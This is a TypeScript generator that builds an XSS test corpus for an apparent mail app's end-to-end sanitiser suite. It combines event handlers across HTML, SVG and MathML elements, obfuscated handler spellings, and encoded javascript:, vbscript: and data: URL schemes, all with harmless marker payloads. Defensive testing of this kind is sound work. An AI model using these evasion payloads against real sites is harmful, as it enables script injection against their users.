/**
 * Writes e2e/fixtures/xss/tidings-systematic.json: the systematic part of Tidings' own XSS
 * vectors (MIT, written for this project), as combinations of elements, handlers, URL-bearing
 * attributes, schemes and parser states. The JSON is what the suite reads; this only regenerates it:
 *
 *   pnpm exec tsx e2e/support/generate-xss-vectors.ts
 *
 * Every payload calls alert/print, writes `top.__xss` or logs the console marker, and/or points
 * at `remote.invalid` or the gateway's `/api/` (what script-watch.ts detects); the generator
 * refuses to write a vector without one.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { carriesMarker, type CorpusFile } from './xss-corpus.ts';

type Vector = CorpusFile['vectors'][number];

const OUT = fileURLToPath(new URL('../fixtures/xss/tidings-systematic.json', import.meta.url));
const HAND_WRITTEN = fileURLToPath(new URL('../fixtures/xss/tidings.json', import.meta.url));

const vectors: Vector[] = [];
const ids = new Set<string>();
const bodies = new Set(
  (JSON.parse(readFileSync(HAND_WRITTEN, 'utf8')) as CorpusFile).vectors.map(
    (vector) => `${vector.type ?? 'html'}\n${vector.html}`,
  ),
);

/** Adds one vector; ids are dot-separated slugs (they also make the test message's Message-ID). */
function add(category: string, slug: string, title: string, html: string, type?: 'text'): void {
  const id = `${category}.${slug}`
    .toLowerCase()
    .replace(/[^a-z0-9.-]+/g, '-')
    .replace(/\.{2,}/g, '.');
  if (ids.has(id)) throw new Error(`duplicate id ${id}`);
  if (!carriesMarker(html)) throw new Error(`${id} carries nothing the watchers would see`);
  const key = `${type ?? 'html'}\n${html}`;
  if (bodies.has(key)) return;
  ids.add(id);
  bodies.add(key);
  vectors.push({ id, category, title, html, ...(type ? { type } : {}) });
}

/** What the payloads do, in turn: each is watched (script-watch.ts). */
const PAYLOADS = ['alert(1)', 'top.__xss=1', 'print()', "console.log('TIDINGS-XSS')"];
const payload = (n: number): string => PAYLOADS[n % PAYLOADS.length] ?? 'alert(1)';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
const KEYFRAMES = '<style>@keyframes tidings-spin{to{opacity:.5}}</style>';
const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const remote = (name: string): string => `http://remote.invalid/${name}`;

// ---------------------------------------------------------------------------------------------
// Event handlers: every element that can carry one × a handler that fires by itself plus two
// interaction handlers (rotating), then every handler name once.

type Wrap = (attributes: string) => string;
/** How a handler on this element would fire without the reader's help. */
type Auto = 'focus' | 'anim' | 'error' | 'load' | 'toggle' | 'start' | 'begin';

const el =
  (name: string, inner = 'x', extra = ''): Wrap =>
  (a) =>
    `<${name}${extra} ${a}>${inner}</${name}>`;
const empty =
  (name: string, extra = ''): Wrap =>
  (a) =>
    `<${name}${extra} ${a}>`;
const inSvg =
  (inner: Wrap): Wrap =>
  (a) =>
    `<svg width="100" height="100">${inner(a)}</svg>`;
const svgEl = (name: string, extra = '', inner = ''): Wrap =>
  inSvg((a) => (inner ? `<${name}${extra} ${a}>${inner}</${name}>` : `<${name}${extra} ${a}/>`));
const inFilter = (inner: Wrap): Wrap =>
  inSvg(
    (a) => `<filter id="f">${inner(a)}</filter><rect width="10" height="10" filter="url(#f)"/>`,
  );
const inMath =
  (inner: Wrap): Wrap =>
  (a) =>
    `<math>${inner(a)}</math>`;
const mathEl = (name: string, inner = '<mi>x</mi>'): Wrap =>
  inMath((a) => `<${name} ${a}>${inner}</${name}>`);
const inTable =
  (inner: Wrap): Wrap =>
  (a) =>
    `<table>${inner(a)}</table>`;

const HTML_ELEMENTS: [string, Wrap, Auto][] = [
  ['a', el('a', 'x', ' href="https://example.test/"'), 'focus'],
  ['abbr', el('abbr'), 'anim'],
  ['acronym', el('acronym'), 'anim'],
  ['address', el('address'), 'anim'],
  [
    'area',
    (a) =>
      `<map name="m"><area href="https://example.test/" shape="rect" coords="0,0,40,40" ${a}></map><img usemap="#m" src="${GIF}" width="40" height="40">`,
    'focus',
  ],
  ['article', el('article'), 'anim'],
  ['aside', el('aside'), 'anim'],
  ['audio', el('audio', '', ' src="x"'), 'error'],
  ['b', el('b'), 'anim'],
  ['base', empty('base'), 'anim'],
  ['basefont', empty('basefont'), 'anim'],
  ['bdi', el('bdi'), 'anim'],
  ['bdo', el('bdo', 'x', ' dir="rtl"'), 'anim'],
  ['bgsound', empty('bgsound', ' src="x"'), 'error'],
  ['big', el('big'), 'anim'],
  ['blink', el('blink'), 'anim'],
  ['blockquote', el('blockquote'), 'anim'],
  ['body', el('body'), 'load'],
  ['br', empty('br'), 'anim'],
  ['button', el('button'), 'focus'],
  ['canvas', el('canvas'), 'anim'],
  ['caption', inTable((a) => `<caption ${a}>x</caption><tr><td>y</td></tr>`), 'anim'],
  ['center', el('center'), 'anim'],
  ['cite', el('cite'), 'anim'],
  ['code', el('code'), 'anim'],
  ['col', inTable((a) => `<colgroup><col ${a}></colgroup><tr><td>x</td></tr>`), 'anim'],
  ['colgroup', inTable((a) => `<colgroup ${a}><col></colgroup><tr><td>x</td></tr>`), 'anim'],
  ['data', el('data', 'x', ' value="1"'), 'anim'],
  ['datalist', el('datalist', '<option value="x">'), 'anim'],
  ['dd', (a) => `<dl><dt>x</dt><dd ${a}>y</dd></dl>`, 'anim'],
  ['del', el('del'), 'anim'],
  ['details', el('details', '<summary>x</summary>y', ' open'), 'toggle'],
  ['dfn', el('dfn'), 'anim'],
  ['dialog', el('dialog', 'x', ' open'), 'focus'],
  ['dir', el('dir', '<li>x</li>'), 'anim'],
  ['div', el('div'), 'anim'],
  ['dl', el('dl', '<dt>x</dt>'), 'anim'],
  ['dt', (a) => `<dl><dt ${a}>x</dt></dl>`, 'anim'],
  ['em', el('em'), 'anim'],
  ['embed', empty('embed', ' src="x"'), 'load'],
  ['fieldset', el('fieldset', '<legend>x</legend>'), 'anim'],
  ['figcaption', (a) => `<figure><figcaption ${a}>x</figcaption></figure>`, 'anim'],
  ['figure', el('figure'), 'anim'],
  ['font', el('font', 'x', ' color="red"'), 'anim'],
  ['footer', el('footer'), 'anim'],
  ['form', el('form', '<p>x</p>'), 'anim'],
  ['frame', (a) => `<frameset><frame src="x" ${a}></frameset>`, 'load'],
  ['frameset', (a) => `<frameset ${a}><frame src="x"></frameset>`, 'load'],
  ['h1', el('h1'), 'anim'],
  ['h6', el('h6'), 'anim'],
  ['head', (a) => `<html><head ${a}></head><body>x</body></html>`, 'anim'],
  ['header', el('header'), 'anim'],
  ['hgroup', el('hgroup', '<h2>x</h2>'), 'anim'],
  ['hr', empty('hr'), 'anim'],
  ['html', (a) => `<html ${a}><body>x</body></html>`, 'anim'],
  ['i', el('i'), 'anim'],
  ['iframe', el('iframe', '', ' src="about:blank"'), 'load'],
  ['img', empty('img', ' src="x"'), 'error'],
  ['image', empty('image', ' src="x"'), 'error'],
  ['input', empty('input'), 'focus'],
  ['input-image', empty('input', ' type="image" src="x"'), 'error'],
  ['input-hidden', empty('input', ' type="hidden"'), 'anim'],
  ['input-checkbox', empty('input', ' type="checkbox"'), 'focus'],
  ['input-file', empty('input', ' type="file"'), 'focus'],
  ['input-color', empty('input', ' type="color"'), 'focus'],
  ['ins', el('ins'), 'anim'],
  ['isindex', empty('isindex'), 'focus'],
  ['kbd', el('kbd'), 'anim'],
  ['keygen', empty('keygen'), 'focus'],
  ['label', el('label'), 'anim'],
  ['legend', (a) => `<fieldset><legend ${a}>x</legend></fieldset>`, 'anim'],
  ['li', (a) => `<ul><li ${a}>x</li></ul>`, 'anim'],
  ['link', empty('link', ' rel="stylesheet" href="x"'), 'error'],
  ['listing', el('listing'), 'anim'],
  ['main', el('main'), 'anim'],
  ['map', (a) => `<map name="n" ${a}><area shape="default"></map>`, 'anim'],
  ['mark', el('mark'), 'anim'],
  ['marquee', el('marquee'), 'start'],
  ['menu', el('menu', '<li>x</li>'), 'anim'],
  ['menuitem', el('menuitem'), 'anim'],
  ['meta', empty('meta', ' name="x" content="y"'), 'anim'],
  ['meter', el('meter', 'x', ' value="0.5"'), 'anim'],
  ['multicol', el('multicol'), 'anim'],
  ['nav', el('nav'), 'anim'],
  ['nextid', empty('nextid'), 'anim'],
  ['nobr', el('nobr'), 'anim'],
  ['noembed', el('noembed'), 'anim'],
  ['noframes', el('noframes'), 'anim'],
  ['noscript', el('noscript'), 'anim'],
  ['object', el('object', '', ' data="x"'), 'error'],
  ['ol', el('ol', '<li>x</li>'), 'anim'],
  [
    'optgroup',
    (a) => `<select><optgroup label="x" ${a}><option>y</option></optgroup></select>`,
    'anim',
  ],
  ['option', (a) => `<select><option ${a}>x</option></select>`, 'anim'],
  ['output', el('output'), 'anim'],
  ['p', el('p'), 'anim'],
  ['param', (a) => `<object><param name="x" value="y" ${a}></object>`, 'anim'],
  ['picture', el('picture', '<img src="x">'), 'anim'],
  ['plaintext', (a) => `<p>x</p><plaintext ${a}>y`, 'anim'],
  ['portal', el('portal', '', ' src="x"'), 'load'],
  ['pre', el('pre'), 'anim'],
  ['progress', el('progress', 'x', ' value="1" max="2"'), 'anim'],
  ['q', el('q'), 'anim'],
  ['rb', (a) => `<ruby><rb ${a}>x</rb><rt>y</rt></ruby>`, 'anim'],
  ['rp', (a) => `<ruby>x<rp ${a}>(</rp><rt>y</rt></ruby>`, 'anim'],
  ['rt', (a) => `<ruby>x<rt ${a}>y</rt></ruby>`, 'anim'],
  ['rtc', (a) => `<ruby>x<rtc ${a}>y</rtc></ruby>`, 'anim'],
  ['ruby', el('ruby', 'x<rt>y</rt>'), 'anim'],
  ['s', el('s'), 'anim'],
  ['samp', el('samp'), 'anim'],
  ['script', el('script', '', ' src="x"'), 'error'],
  ['search', el('search'), 'anim'],
  ['section', el('section'), 'anim'],
  ['select', el('select', '<option>x</option>'), 'focus'],
  [
    'selectedcontent',
    (a) =>
      `<select><button><selectedcontent ${a}></selectedcontent></button><option>x</option></select>`,
    'anim',
  ],
  ['slot', el('slot'), 'anim'],
  ['small', el('small'), 'anim'],
  ['source', (a) => `<video><source src="x" ${a}></video>`, 'error'],
  ['spacer', el('spacer'), 'anim'],
  ['span', el('span'), 'anim'],
  ['strike', el('strike'), 'anim'],
  ['strong', el('strong'), 'anim'],
  ['style', el('style', ''), 'load'],
  ['sub', el('sub'), 'anim'],
  ['summary', (a) => `<details><summary ${a}>x</summary>y</details>`, 'focus'],
  ['sup', el('sup'), 'anim'],
  ['table', el('table', '<tr><td>x</td></tr>'), 'anim'],
  ['tbody', inTable((a) => `<tbody ${a}><tr><td>x</td></tr></tbody>`), 'anim'],
  ['td', inTable((a) => `<tr><td ${a}>x</td></tr>`), 'anim'],
  ['template', el('template', '<p>x</p>'), 'anim'],
  ['textarea', el('textarea'), 'focus'],
  ['tfoot', inTable((a) => `<tfoot ${a}><tr><td>x</td></tr></tfoot>`), 'anim'],
  ['th', inTable((a) => `<tr><th ${a}>x</th></tr>`), 'anim'],
  ['thead', inTable((a) => `<thead ${a}><tr><td>x</td></tr></thead>`), 'anim'],
  ['time', el('time', 'x', ' datetime="2026-01-01"'), 'anim'],
  ['title', el('title'), 'anim'],
  ['tr', inTable((a) => `<tr ${a}><td>x</td></tr>`), 'anim'],
  ['track', (a) => `<video><track src="x" default ${a}></video>`, 'error'],
  ['tt', el('tt'), 'anim'],
  ['u', el('u'), 'anim'],
  ['ul', el('ul', '<li>x</li>'), 'anim'],
  ['var', el('var'), 'anim'],
  ['video', el('video', '', ' src="x"'), 'error'],
  ['wbr', empty('wbr'), 'anim'],
  ['xmp', el('xmp'), 'anim'],
  ['custom-element', el('x-tidings'), 'anim'],
  ['unknown-element', el('tidings'), 'anim'],
  ['fencedframe', el('fencedframe', '', ' src="x"'), 'load'],
];

const SVG_ELEMENTS: [string, Wrap, Auto][] = [
  ['svg', (a) => `<svg ${a}></svg>`, 'load'],
  ['g', svgEl('g', '', '<rect width="10" height="10"/>'), 'anim'],
  ['defs', svgEl('defs', '', '<rect id="d" width="10" height="10"/>'), 'anim'],
  ['symbol', svgEl('symbol', ' id="s"', '<rect width="10" height="10"/>'), 'anim'],
  [
    'use',
    inSvg((a) => `<rect id="r" width="10" height="10"/><use href="#r" x="20" ${a}/>`),
    'anim',
  ],
  ['a', svgEl('a', '', '<text y="20">x</text>'), 'focus'],
  ['rect', svgEl('rect', ' width="10" height="10"'), 'anim'],
  ['circle', svgEl('circle', ' cx="5" cy="5" r="5"'), 'anim'],
  ['ellipse', svgEl('ellipse', ' cx="5" cy="5" rx="5" ry="3"'), 'anim'],
  ['line', svgEl('line', ' x2="10" y2="10" stroke="black"'), 'anim'],
  ['polyline', svgEl('polyline', ' points="0,0 10,10 20,0"'), 'anim'],
  ['polygon', svgEl('polygon', ' points="0,0 10,10 20,0"'), 'anim'],
  ['path', svgEl('path', ' d="M0 0L10 10"'), 'anim'],
  ['text', svgEl('text', ' y="20"', 'x'), 'anim'],
  ['tspan', inSvg((a) => `<text y="20"><tspan ${a}>x</tspan></text>`), 'anim'],
  [
    'textpath',
    inSvg((a) => `<path id="p" d="M0 20H90"/><text><textPath href="#p" ${a}>x</textPath></text>`),
    'anim',
  ],
  ['image', svgEl('image', ' href="x" width="10" height="10"'), 'error'],
  ['foreignobject', svgEl('foreignObject', ' width="50" height="50"', '<p>x</p>'), 'anim'],
  ['switch', svgEl('switch', '', '<rect width="10" height="10"/>'), 'anim'],
  ['marker', svgEl('marker', ' id="m"', '<rect width="2" height="2"/>'), 'anim'],
  ['mask', svgEl('mask', ' id="k"', '<rect width="10" height="10" fill="white"/>'), 'anim'],
  ['clippath', svgEl('clipPath', ' id="c"', '<rect width="10" height="10"/>'), 'anim'],
  [
    'pattern',
    svgEl('pattern', ' id="pt" width="4" height="4"', '<rect width="2" height="2"/>'),
    'anim',
  ],
  ['lineargradient', svgEl('linearGradient', ' id="lg"', '<stop offset="0"/>'), 'anim'],
  ['radialgradient', svgEl('radialGradient', ' id="rg"', '<stop offset="0"/>'), 'anim'],
  [
    'stop',
    inSvg((a) => `<linearGradient id="sg"><stop offset="0" ${a}/></linearGradient>`),
    'anim',
  ],
  ['filter', svgEl('filter', ' id="fl"', '<feFlood/>'), 'anim'],
  ['feimage', inFilter((a) => `<feImage href="x" ${a}/>`), 'error'],
  ['feflood', inFilter((a) => `<feFlood flood-color="red" ${a}/>`), 'anim'],
  ['fegaussianblur', inFilter((a) => `<feGaussianBlur stdDeviation="1" ${a}/>`), 'anim'],
  ['feturbulence', inFilter((a) => `<feTurbulence baseFrequency="0.1" ${a}/>`), 'anim'],
  ['fecolormatrix', inFilter((a) => `<feColorMatrix type="saturate" values="0" ${a}/>`), 'anim'],
  [
    'fefunca',
    inFilter((a) => `<feComponentTransfer><feFuncA type="identity" ${a}/></feComponentTransfer>`),
    'anim',
  ],
  [
    'femergenode',
    inFilter((a) => `<feMerge><feMergeNode in="SourceGraphic" ${a}/></feMerge>`),
    'anim',
  ],
  ['fedropshadow', inFilter((a) => `<feDropShadow dx="1" dy="1" ${a}/>`), 'anim'],
  [
    'fespotlight',
    inFilter(
      (a) => `<feSpecularLighting><feSpotLight x="1" y="1" z="1" ${a}/></feSpecularLighting>`,
    ),
    'anim',
  ],
  [
    'fedistantlight',
    inFilter((a) => `<feDiffuseLighting><feDistantLight azimuth="1" ${a}/></feDiffuseLighting>`),
    'anim',
  ],
  ['fedisplacementmap', inFilter((a) => `<feDisplacementMap scale="2" ${a}/>`), 'anim'],
  ['fetile', inFilter((a) => `<feTile ${a}/>`), 'anim'],
  ['view', svgEl('view', ' id="v" viewBox="0 0 10 10"'), 'anim'],
  ['desc', svgEl('desc', '', 'x'), 'anim'],
  ['title', svgEl('title', '', 'x'), 'anim'],
  ['metadata', svgEl('metadata', '', 'x'), 'anim'],
  ['style', svgEl('style', '', 'rect{fill:red}'), 'load'],
  ['script', svgEl('script', ' href="x"', ''), 'error'],
  ['animate', svgEl('animate', ' attributeName="x" dur="1s"'), 'begin'],
  ['set', svgEl('set', ' attributeName="x" to="1"'), 'begin'],
  ['animatemotion', svgEl('animateMotion', ' path="M0 0H10" dur="1s"'), 'begin'],
  [
    'animatetransform',
    svgEl('animateTransform', ' attributeName="transform" type="scale" to="2" dur="1s"'),
    'begin',
  ],
  ['animatecolor', svgEl('animateColor', ' attributeName="fill" to="red" dur="1s"'), 'begin'],
  [
    'mpath',
    inSvg(
      (a) =>
        `<path id="mp" d="M0 0H10"/><animateMotion dur="1s"><mpath href="#mp" ${a}/></animateMotion>`,
    ),
    'anim',
  ],
  ['discard', svgEl('discard', ' begin="1s"'), 'begin'],
  ['cursor', svgEl('cursor', ' href="x"'), 'anim'],
  ['altglyph', inSvg((a) => `<text y="20"><altGlyph ${a}>x</altGlyph></text>`), 'anim'],
  ['tref', inSvg((a) => `<text y="20"><tref ${a}/></text>`), 'anim'],
  ['hatch', svgEl('hatch', ' id="h"'), 'anim'],
  ['font-face', svgEl('font-face', ' font-family="x"'), 'anim'],
];

const MATHML_ELEMENTS: [string, Wrap, Auto][] = [
  ['math', (a) => `<math ${a}><mi>x</mi></math>`, 'focus'],
  ['mi', mathEl('mi', 'x'), 'focus'],
  ['mn', mathEl('mn', '1'), 'anim'],
  ['mo', mathEl('mo', '+'), 'focus'],
  ['ms', mathEl('ms', 'x'), 'anim'],
  ['mtext', mathEl('mtext', 'x'), 'focus'],
  ['mspace', mathEl('mspace', ''), 'anim'],
  ['mrow', mathEl('mrow'), 'anim'],
  ['mfrac', mathEl('mfrac', '<mi>a</mi><mi>b</mi>'), 'anim'],
  ['msqrt', mathEl('msqrt'), 'anim'],
  ['mroot', mathEl('mroot', '<mi>a</mi><mn>3</mn>'), 'anim'],
  ['mstyle', mathEl('mstyle'), 'anim'],
  ['merror', mathEl('merror'), 'anim'],
  ['mpadded', mathEl('mpadded'), 'anim'],
  ['mphantom', mathEl('mphantom'), 'anim'],
  ['msub', mathEl('msub', '<mi>a</mi><mi>b</mi>'), 'anim'],
  ['msup', mathEl('msup', '<mi>a</mi><mi>b</mi>'), 'anim'],
  ['msubsup', mathEl('msubsup', '<mi>a</mi><mi>b</mi><mi>c</mi>'), 'anim'],
  ['munder', mathEl('munder', '<mi>a</mi><mi>b</mi>'), 'anim'],
  ['mover', mathEl('mover', '<mi>a</mi><mi>b</mi>'), 'anim'],
  ['munderover', mathEl('munderover', '<mi>a</mi><mi>b</mi><mi>c</mi>'), 'anim'],
  [
    'mmultiscripts',
    mathEl('mmultiscripts', '<mi>a</mi><mi>b</mi><mi>c</mi><mprescripts/><mi>d</mi><mi>e</mi>'),
    'anim',
  ],
  [
    'mprescripts',
    inMath(
      (a) => `<mmultiscripts><mi>a</mi><mprescripts ${a}/><mi>b</mi><mi>c</mi></mmultiscripts>`,
    ),
    'anim',
  ],
  ['mtable', mathEl('mtable', '<mtr><mtd><mi>x</mi></mtd></mtr>'), 'anim'],
  ['mtr', inMath((a) => `<mtable><mtr ${a}><mtd><mi>x</mi></mtd></mtr></mtable>`), 'anim'],
  ['mtd', inMath((a) => `<mtable><mtr><mtd ${a}><mi>x</mi></mtd></mtr></mtable>`), 'anim'],
  [
    'mlabeledtr',
    inMath((a) => `<mtable><mlabeledtr ${a}><mtd><mi>x</mi></mtd></mlabeledtr></mtable>`),
    'anim',
  ],
  ['maction', mathEl('maction', '<mi>x</mi><mi>y</mi>'), 'focus'],
  ['semantics', mathEl('semantics', '<mi>x</mi><annotation>y</annotation>'), 'anim'],
  [
    'annotation',
    inMath((a) => `<semantics><mi>x</mi><annotation ${a}>y</annotation></semantics>`),
    'anim',
  ],
  [
    'annotation-xml',
    inMath(
      (a) =>
        `<semantics><mi>x</mi><annotation-xml encoding="text/html" ${a}><p>y</p></annotation-xml></semantics>`,
    ),
    'anim',
  ],
  ['menclose', mathEl('menclose', '<mi>x</mi>'), 'anim'],
  ['mglyph', inMath((a) => `<mi><mglyph ${a}/></mi>`), 'anim'],
  ['malignmark', inMath((a) => `<mi><malignmark ${a}/></mi>`), 'anim'],
  ['mfenced', mathEl('mfenced'), 'anim'],
  ['mstack', mathEl('mstack', '<mn>1</mn>'), 'anim'],
];

/** Interaction handlers. */
const INTERACTION = [
  'onmouseover',
  'onclick',
  'onpointerenter',
  'onmousemove',
  'onpointerdown',
  'onauxclick',
  'oncontextmenu',
  'onwheel',
  'ondblclick',
  'onmouseenter',
  'onpointerover',
  'onmousedown',
  'onmouseup',
  'onpointerup',
  'onmouseout',
  'onmouseleave',
  'onpointermove',
  'onpointerleave',
  'onkeydown',
  'onkeyup',
  'onkeypress',
  'oncopy',
  'oncut',
  'onpaste',
  'ondrag',
  'ondragstart',
  'ondragenter',
  'ondragover',
  'ondrop',
  'onselectstart',
  'onfocusin',
  'onfocusout',
  'onblur',
  'ontouchstart',
  'onpointerout',
  'ongotpointercapture',
];

/** Every other handler name (HTML, SVG, CSS animations, media, legacy and vendor names). */
const MORE_HANDLERS = [
  'onabort',
  'onafterprint',
  'onafterscriptexecute',
  'onanimationcancel',
  'onanimationend',
  'onanimationiteration',
  'onbeforecopy',
  'onbeforecut',
  'onbeforeinput',
  'onbeforematch',
  'onbeforepaste',
  'onbeforeprint',
  'onbeforescriptexecute',
  'onbeforetoggle',
  'onbeforeunload',
  'onbounce',
  'oncancel',
  'oncanplay',
  'oncanplaythrough',
  'onchange',
  'onclose',
  'oncommand',
  'oncontentvisibilityautostatechange',
  'oncontextlost',
  'oncontextrestored',
  'oncuechange',
  'ondragend',
  'ondragexit',
  'ondragleave',
  'ondurationchange',
  'onemptied',
  'onend',
  'onended',
  'onfinish',
  'onformdata',
  'onfullscreenchange',
  'onhashchange',
  'oninput',
  'oninvalid',
  'onlanguagechange',
  'onloadeddata',
  'onloadedmetadata',
  'onloadend',
  'onloadstart',
  'onlostpointercapture',
  'onmessage',
  'onmousewheel',
  'onmozfullscreenchange',
  'onoffline',
  'ononline',
  'onpagehide',
  'onpagereveal',
  'onpageshow',
  'onpageswap',
  'onpause',
  'onplay',
  'onplaying',
  'onpointercancel',
  'onpointerlockchange',
  'onpointerrawupdate',
  'onpopstate',
  'onprogress',
  'onratechange',
  'onreadystatechange',
  'onrepeat',
  'onreset',
  'onresize',
  'onscroll',
  'onscrollend',
  'onscrollsnapchange',
  'onsearch',
  'onsecuritypolicyviolation',
  'onseeked',
  'onseeking',
  'onselect',
  'onselectionchange',
  'onshow',
  'onslotchange',
  'onstalled',
  'onstorage',
  'onsubmit',
  'onsuspend',
  'ontimeupdate',
  'ontouchend',
  'ontouchmove',
  'ontransitioncancel',
  'ontransitionend',
  'ontransitionrun',
  'ontransitionstart',
  'onunhandledrejection',
  'onunload',
  'onvisibilitychange',
  'onvolumechange',
  'onwaiting',
  'onwebkitanimationend',
  'onwebkitanimationiteration',
  'onwebkitanimationstart',
  'onwebkitfullscreenchange',
  'onwebkittransitionend',
  'onzoom',
];

/** Handed out two per element, in turn, after the one that fires by itself. */
const HANDLERS = [...INTERACTION, ...MORE_HANDLERS];

function autoAttributes(auto: Auto, code: string): { attrs: string; prefix: string } {
  switch (auto) {
    case 'focus':
      return { attrs: `tabindex="1" autofocus onfocus="${code}"`, prefix: '' };
    case 'anim':
      return {
        attrs: `style="animation:tidings-spin 1ms" onanimationstart="${code}"`,
        prefix: KEYFRAMES,
      };
    case 'error':
      return { attrs: `onerror="${code}"`, prefix: '' };
    case 'load':
      return { attrs: `onload="${code}"`, prefix: '' };
    case 'toggle':
      return { attrs: `ontoggle="${code}"`, prefix: '' };
    case 'start':
      return { attrs: `onstart="${code}"`, prefix: '' };
    case 'begin':
      return { attrs: `onbegin="${code}" onend="${code}"`, prefix: '' };
  }
}

function eventHandlers(): void {
  let turn = 0;
  const groups: [string, [string, Wrap, Auto][]][] = [
    ['html', HTML_ELEMENTS],
    ['svg', SVG_ELEMENTS],
    ['mathml', MATHML_ELEMENTS],
  ];
  for (const [space, elements] of groups) {
    for (const [name, wrap, auto] of elements) {
      const first = HANDLERS[(2 * turn) % HANDLERS.length] ?? 'onclick';
      const second = HANDLERS[(2 * turn + 1) % HANDLERS.length] ?? 'onmouseover';
      const code = payload(turn);
      const { attrs, prefix } = autoAttributes(auto, code);
      add(
        'event-handler',
        `${space}.${name}`,
        `${space.toUpperCase()} <${name}> with ${attrs.match(/on[a-z]+/g)?.join('/')}, ${first}, ${second}`,
        prefix + wrap(`${attrs} ${first}="${payload(turn + 1)}" ${second}="${payload(turn + 2)}"`),
      );
      turn += 1;
    }
  }

  // Every handler name was handed out at least once.
  const used = new Set(vectors.flatMap((vector) => vector.html.match(/\bon[a-z]+(?==)/g) ?? []));
  const unused = HANDLERS.filter((handler) => !used.has(handler));
  if (unused.length > 0) throw new Error(`handlers never used: ${unused.join(' ')}`);

  // Spellings of the same handler.
  const spellings: [string, string, string][] = [
    ['unquoted', 'unquoted value', '<img src=x onerror=alert(1)>'],
    ['uppercase', 'upper-case tag and attribute', '<IMG SRC=x ONERROR=alert(1)>'],
    ['mixed-case', 'mixed-case attribute', '<img src=x oNeRrOr=top.__xss=1>'],
    ['slashes', 'slashes instead of spaces', '<img/src=x/onerror=alert(1)>'],
    ['whitespace-equals', 'newlines around =', '<img src=x onerror\n=\nalert(1)>'],
    ['form-feed', 'form feed before the handler', '<img src=x\fonerror=alert(1)>'],
    [
      'decimal-refs',
      'decimal references in the value',
      '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    ],
    [
      'hex-refs',
      'hex references without semicolons',
      '<img src=x onerror="&#x61&#x6c&#x65&#x72&#x74(1)">',
    ],
    ['padded-refs', 'zero-padded references', '<img src=x onerror="&#0000097;lert(1)">'],
    ['named-refs', 'named references for punctuation', '<img src=x onerror=alert&lpar;1&rpar;>'],
    ['template-call', 'tagged template call', '<img src=x onerror=alert`1`>'],
    ['label', 'javascript: label in a handler', '<img src=x onerror="javascript:alert(1)">'],
    ['unicode-escape', 'JavaScript unicode escape', '<img src=x onerror="\\u0061lert(1)">'],
    [
      'throw',
      'window.onerror and throw',
      '<img src=x onerror="onerror=function(){top.__xss=1};throw 1">',
    ],
    ['unclosed', 'unclosed tag at the end', '<p>x</p><img src=x onerror=alert(1)//'],
    ['duplicate', 'duplicate attribute', '<img src="x" onerror="alert(1)" onerror="x">'],
    ['split-name', 'split attribute name', '<img src=x on error=alert(1) onerror=top.__xss=1>'],
    ['self-closing', 'self-closing slash', '<img src=x onerror=alert(1) />'],
    ['quote-break', 'attribute value closing quote', '<img src="x" alt="\'" onerror=\'alert(1)\'>'],
    [
      'backtick-value',
      'backtick-quoted value (not quotes in HTML)',
      '<img src=`x` onerror=`alert(1)`>',
    ],
    ['svg-onload-slash', 'svg onload with slash', '<svg/onload=alert(1)>'],
    [
      'body-onload-nested',
      'body onload inside a div',
      '<div><body onload=top.__xss=1>x</body></div>',
    ],
    [
      'nul-in-name',
      'replacement character in the name',
      '<img src=x on\u0000error=alert(1) onerror=alert(1)>',
    ],
    ['after-text', 'handler after a bare text attribute', '<img src=x title=a"b onerror=alert(1)>'],
  ];
  for (const [slug, title, html] of spellings)
    add('event-handler', `spelling.${slug}`, title, html);
}

// ---------------------------------------------------------------------------------------------
// URL-bearing attributes × schemes.

type Context = 'navigate' | 'load';
const URL_ATTRIBUTES: [string, Context, (value: string) => string][] = [
  ['href', 'navigate', (v) => `<a href="${v}">link</a>`],
  ['src', 'load', (v) => `<img src="${v}">`],
  [
    'action',
    'navigate',
    (v) =>
      `<form action="${v}" method="post"><input name="q" value="1"><button>Send</button></form>`,
  ],
  ['formaction', 'navigate', (v) => `<form><button formaction="${v}">Send</button></form>`],
  [
    'xlink-href',
    'load',
    (v) =>
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${v}"><text y="20">link</text></a><image xlink:href="${v}" width="10" height="10"/></svg>`,
  ],
  ['poster', 'load', (v) => `<video poster="${v}" controls></video>`],
  ['background', 'load', (v) => `<table background="${v}"><tr><td>x</td></tr></table>`],
  ['data', 'load', (v) => `<object data="${v}"></object>`],
  ['srcset', 'load', (v) => `<img src="${GIF}" srcset="${v} 2x">`],
  ['style-url', 'load', (v) => `<div style="background-image:url(&quot;${v}&quot;)">x</div>`],
];

/** [slug, value, what it is]; `@` becomes a name for the remote file. */
const SCHEMES: [string, string, string, Context | 'both'][] = [
  ['javascript', 'javascript:alert(1)', 'javascript:', 'both'],
  ['javascript-case', 'JaVaScRiPt:top.__xss=1', 'javascript: in mixed case', 'both'],
  [
    'javascript-decimal-refs',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    'javascript: as decimal references',
    'both',
  ],
  [
    'javascript-hex-refs',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;print()',
    'javascript: as hex references without semicolons',
    'both',
  ],
  [
    'javascript-named-refs',
    'javascript&colon;alert&lpar;1&rpar;',
    'javascript: with named references',
    'both',
  ],
  [
    'javascript-tab-newline',
    'jav&#x09;ascript&#x0A;:alert(1)',
    'tab and newline in the scheme',
    'both',
  ],
  [
    'javascript-leading-controls',
    '&#x01;&#x20;&#x0B; javascript:alert(1)',
    'controls and spaces before the scheme',
    'both',
  ],
  ['vbscript', 'vbscript:alert(1)', 'vbscript:', 'both'],
  ['data-html', 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;', 'data:text/html', 'both'],
  [
    'data-html-base64',
    `data:text/html;base64,${base64('<script>top.__xss=1</script>')}`,
    'data:text/html;base64',
    'both',
  ],
  ['http', 'http://remote.invalid/@', 'remote http:', 'load'],
  ['https-upper', 'HTTPS://REMOTE.INVALID/@', 'remote HTTPS: in upper case', 'load'],
  ['protocol-relative', '//remote.invalid/@', 'protocol-relative', 'load'],
  ['backslashes', '/\\remote.invalid/@', 'slash and backslash (protocol-relative)', 'load'],
